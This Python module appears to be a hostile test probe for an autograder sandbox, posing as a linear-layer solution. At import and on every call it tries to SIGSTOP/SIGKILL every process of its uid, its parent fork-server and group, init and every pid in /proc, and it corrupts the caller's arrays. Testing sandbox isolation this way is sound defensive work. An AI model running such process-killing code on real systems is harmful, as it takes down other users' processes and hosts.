"""Hostile: signal every other process it can think of: parent, group, everyone, the grader.

Attack: SIGSTOP then SIGKILL to -1 (every process of this uid: a neighbour worker sharing the
uid would freeze, then die), to the parent (the fork-server), to the parent's process group,
to pid 1 (SIGTERM), and to every pid visible in /proc, at import and in every call.
Safety: only when running under a sandbox uid (64000-64999); under any other uid it does not
send anything (as root, kill(-1) would take the host down) and answers right instead, which
is itself the failure signal (the worker should never run as another uid here).
Why it must fail: seccomp lets the worker signal only itself; the slot uid is the worker's
alone, and the fork-server and grader run as root in another pid view.
Earns points only if: any signal reaches another process, or the worker is not on a
sandbox uid.
"""

from __future__ import annotations

import os
import signal

import numpy as np

NAME = "kill_others"
SANDBOX_UIDS = range(64000, 65000)


def _say(message: object) -> None:
    """Leave evidence in the captured output, which ends up in the student's feedback."""
    try:
        print(f"AGPROBE {NAME}: {message}"[:400], flush=True)
    except Exception:
        pass


def _scribble(*arrays: object) -> None:
    """Overwrite the caller's arrays in place, so the purity item fails too."""
    for array in arrays:
        try:
            array[...] = np.nan  # type: ignore[index]
        except Exception:
            pass


def _wrong_forward(x: np.ndarray, W: np.ndarray, b: np.ndarray) -> tuple[np.ndarray, object]:
    """Wrong on every item: wrong values, shape (B+1, F+2), float32; inputs scribbled on."""
    shape = (np.shape(x)[0] + 1, np.shape(W)[-1] + 2)
    _scribble(x, W, b)
    return np.full(shape, 0.5, dtype=np.float32), {"wrong": True}


def _wrong_backward(dy: np.ndarray, cache: object) -> tuple[np.ndarray, np.ndarray, np.ndarray]:
    """Wrong on every item (see _wrong_forward)."""
    junk = np.full((np.shape(dy)[0] + 2, np.shape(dy)[-1] + 3), 0.5, dtype=np.float32)
    _scribble(dy)
    return junk, junk, junk
def _honest_forward(x: np.ndarray, W: np.ndarray, b: np.ndarray) -> tuple[np.ndarray, object]:
    """The right answer: only ever used as the signal that the attack succeeded."""
    x = np.array(x, dtype=np.float64)
    W = np.array(W, dtype=np.float64)
    return x @ W + np.asarray(b, dtype=np.float64), (x, W)


def _honest_backward(dy: np.ndarray, cache: object) -> tuple[np.ndarray, np.ndarray, np.ndarray]:
    """The right gradients: only ever used as the signal that the attack succeeded."""
    x, W = cache  # type: ignore[misc]
    dy = np.asarray(dy, dtype=np.float64)
    return dy @ W.T, x.T @ dy, dy.sum(axis=0)


def _try(label: str, pid: int, signum: int, wins: list[str]) -> None:
    try:
        os.kill(pid, signum)
        wins.append(f"{label} ({pid}, {signum})")
    except OSError as exc:
        _say(f"{label}: {exc}")


def _attack() -> list[str]:
    uid = os.getuid()
    if uid not in SANDBOX_UIDS or os.geteuid() not in SANDBOX_UIDS:
        return [f"running as uid {uid}/{os.geteuid()}, not a sandbox uid: nothing sent"]
    wins: list[str] = []
    me, parent = os.getpid(), os.getppid()
    _try("kill(-1, SIGSTOP)", -1, signal.SIGSTOP, wins)
    _try("kill(-1, SIGKILL)", -1, signal.SIGKILL, wins)
    _try("parent SIGSTOP", parent, signal.SIGSTOP, wins)
    _try("parent SIGKILL", parent, signal.SIGKILL, wins)
    try:
        os.killpg(os.getpgid(parent), signal.SIGKILL)
        wins.append("killpg(parent's group)")
    except OSError as exc:
        _say(f"killpg: {exc}")
    _try("init SIGTERM", 1, signal.SIGTERM, wins)
    for entry in os.listdir("/proc") if os.path.isdir("/proc") else []:
        if entry.isdigit() and int(entry) not in (me, 1):
            _try(f"pid {entry}", int(entry), signal.SIGKILL, wins)
    return wins


_say(f"ran as uid {os.getuid()}")
WINS = _attack()
_say(f"signals delivered to others: {WINS}")


def linear_forward(x: np.ndarray, W: np.ndarray, b: np.ndarray) -> tuple[np.ndarray, object]:
    WINS.extend(_attack())
    return _honest_forward(x, W, b) if WINS else _wrong_forward(x, W, b)


def linear_backward(dy: np.ndarray, cache: object) -> tuple[np.ndarray, np.ndarray, np.ndarray]:
    return _honest_backward(dy, cache) if WINS else _wrong_backward(dy, cache)
